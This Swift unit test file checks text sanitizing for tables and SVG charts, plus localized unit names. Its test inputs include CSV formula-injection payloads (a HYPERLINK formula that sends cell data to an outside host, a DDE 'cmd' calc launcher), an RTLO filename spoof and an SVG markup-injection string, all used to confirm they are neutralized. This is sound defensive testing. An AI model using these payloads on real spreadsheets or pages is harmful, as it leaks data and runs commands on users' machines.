@testable import ChartpipeText
import XCTest

/// Text for tables and SVG charts: spreadsheet cells that cannot run, SVG text whose bidi controls
/// cannot reorder a label, and unit names for headers and axis titles.
final class FigureTextTests: XCTestCase {
    func testFormulaLikeCellsGetAnApostrophe() {
        let formulas = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
                        "\t=1+1", "\r=1+1", "=", "-", "+", "@", "－1+1", "＝1+1", "-e3", "+.", "-5 degrees"]
        for text in formulas {
            XCTAssertTrue(Spreadsheet.isFormulaLike(text), text)
            XCTAssertEqual(Spreadsheet.text(text), "'" + text)
        }
        let plain = ["-5", "+0.5", "1e3", "-2.5E-4", ".5", "-.5", "5.", "0", "Revenue", "a=b", " =1", "'=1", "", "매출", "2026-06-01"]
        for text in plain {
            XCTAssertFalse(Spreadsheet.isFormulaLike(text), text)
            XCTAssertEqual(Spreadsheet.text(text), text)
        }
        for number in ["-5", "1e3", "+7", "3.25", "-0.0", "1E+9"] { XCTAssertTrue(Spreadsheet.isNumber(number), number) }
        for text in ["-", "e3", "1e", "1.2.3", "--5", "5-", "0x10", "1,000", "NaN", "inf", " 5"] {
            XCTAssertFalse(Spreadsheet.isNumber(text), text)
        }
    }

    func testSVGTextReplacesBidiControlsAndEscapesMarkup() {
        XCTAssertEqual(SVG.text("\u{202E}gnp.exe\u{202C} <b>&</b> ]]>"), "\u{FFFD}gnp.exe\u{FFFD} &lt;b&gt;&amp;&lt;/b&gt; ]]&gt;")
        XCTAssertEqual(SVG.attribute("\"><img onerror=x>\u{2066}"), "&quot;&gt;&lt;img onerror=x&gt;\u{FFFD}")
        XCTAssertEqual(SVG.text("--> \u{1B}"), "--&gt; \u{241B}")
        // The marks CLDR writes into right-to-left numbers pass.
        XCTAssertEqual(SVG.text("\u{200F}5"), "\u{200F}5")
        // XML itself keeps bidi controls (XLIFF carries translators' text as it is).
        XCTAssertEqual(XML.text("\u{202E}"), "\u{202E}")
    }

    func testUnitNamesForHeaders() {
        let en = LocaleFormats(locale: "en"), ko = LocaleFormats(locale: "ko"), zh = LocaleFormats(locale: "zh-Hans")
        let ja = LocaleFormats(locale: "ja")
        XCTAssertEqual(en.unitName("USD"), "US dollars")
        XCTAssertEqual(ko.unitName("USD"), "달러")
        XCTAssertEqual(zh.unitName("USD"), "美元")
        XCTAssertEqual(ja.unitName("USD"), "ドル")
        XCTAssertEqual(zh.unitName("CNY"), "元")
        XCTAssertEqual(en.unitName("duration-minute"), "minutes")
        XCTAssertEqual(ko.unitName("duration-minute"), "분")
        XCTAssertEqual(zh.unitName("duration-minute"), "分钟")
        XCTAssertEqual(en.unitName("temperature-celsius"), "degrees Celsius")
        XCTAssertEqual(en.unitName("percent"), "%")
        XCTAssertNil(en.unitName(nil))
        // The same names as the amounts in sentences.
        XCTAssertTrue(ko.currency(1200, code: "USD").hasSuffix(ko.unitName("USD") ?? "?"))
    }
}
